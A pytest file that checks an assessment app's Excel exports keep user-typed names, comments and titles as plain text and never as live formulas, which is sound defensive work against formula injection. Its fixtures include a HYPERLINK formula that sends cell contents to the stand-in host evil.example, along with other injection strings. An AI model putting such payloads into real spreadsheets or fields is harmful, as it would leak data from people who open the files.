"""Every workbook the app writes keeps what people typed as text (issue 18, item 1): a unit's
explanation, an appraiser's comment, a unit's or a scheme's name starting with ``=`` (or with
blanks before it) never becomes a live formula when an official opens the file in Excel."""
from __future__ import annotations

import dataclasses
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app import tenancy
from app.catalogue.excel import scheme_workbook
from app.extensions import db
from app.models import Answer, Unit
from tests.conftest import province_id
from tests.test_api import call  # noqa: F401  (the API fixture)
from tests.test_exports import FILLED, FORM, OWN, RANKING, SCHEME, fill
from tests.test_rankings import departments, make, scores_summing

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
TYPED = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", " =1+1", "\r=1+1", EVIL]


def no_formula_from(book, texts) -> None:
    """No cell holding one of ``texts`` is a formula, and each text is there as a string."""
    found = set()
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                if cell.data_type == "f":
                    assert "evil" not in str(cell.value) and "1+1" not in str(cell.value), (
                        sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    found |= {t for t in texts if t.strip() in cell.value}
    assert found == set(texts), (texts, found)


def read(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return load_workbook(io.BytesIO(response.data))


def test_typed_text_is_text_in_the_assessment_workbooks(app, as_user, call):
    fill(app, {**FILLED, "1.2": {"self_score": "12,5", "explanation": EVIL}})
    with app.app_context(), tenancy.scoped(province_id(app, "dienbien")):
        answer = db.session.scalar(select(Answer).where(Answer.code == "1.2"))
        answer.appraisal_comment = "\t=1+1"
        db.session.commit()
    client = as_user("unit_user", "dienbien")
    for path in ("export.xlsx", "import-template.xlsx"):
        book = read(client.get(f"{FORM}/{path}"))
        no_formula_from(book, [EVIL, "\t=1+1"])
        sheet = book["Hồ sơ đánh giá"]
        assert any(c.value == EVIL and c.data_type == "s" for line in sheet.iter_rows()
                   for c in line)
    api = read(call("province_admin")("GET", f"/api/v1/exports/{SCHEME}/2022/{OWN}/assessment.xlsx"))
    no_formula_from(api, [EVIL])
    # the app's own sums are still formulas
    assert any(c.data_type == "f" and c.value.startswith("=SUM(")
               for line in api["Hồ sơ đánh giá"].iter_rows() for c in line)


@pytest.mark.parametrize("name", TYPED)
def test_a_unit_name_is_text_in_the_ranking_and_score_sheet(app, as_user, name):
    first = departments(app, 1)[0]
    make(app, first, scores_summing(app, 300))
    with app.app_context(), tenancy.scoped(province_id(app, "dienbien")):
        db.session.scalar(select(Unit).where(Unit.code == first)).name = name
        db.session.commit()
    client = as_user("province_admin", "dienbien")
    for path in ("ranking.xlsx", "scoresheet.xlsx"):
        book = read(client.get(f"{RANKING}/{path}"))
        no_formula_from(book, [name])


def test_a_unit_name_is_text_in_the_user_import_template(app, as_user):
    with app.app_context(), tenancy.scoped(province_id(app, "dienbien")):
        unit = db.session.scalars(select(Unit).order_by(Unit.id)).first()
        unit.name = EVIL
        db.session.commit()
    book = read(as_user("province_admin", "dienbien").get("/users/import/template.xlsx"))
    no_formula_from(book, [EVIL])
    assert any(c.value == EVIL and c.data_type == "s" for line in book["Hướng dẫn"].iter_rows()
               for c in line)


def test_catalogue_text_is_text_in_the_scheme_workbook(app):
    scheme = app.extensions["chiso"].schemes[SCHEME]
    row = dataclasses.replace(scheme.rows[1], title=EVIL, measure="=1+1")
    rows = [scheme.rows[0], row, *scheme.rows[2:]]
    changed = dataclasses.replace(scheme, title="=1+1", rows=rows)
    book = load_workbook(io.BytesIO(scheme_workbook(changed)))
    sheet = book.active
    assert sheet["A1"].value == "=1+1" and sheet["A1"].data_type == "s"
    no_formula_from(book, [EVIL, "=1+1"])
    assert any(c.data_type == "f" for line in sheet.iter_rows() for c in line)  # its own sums
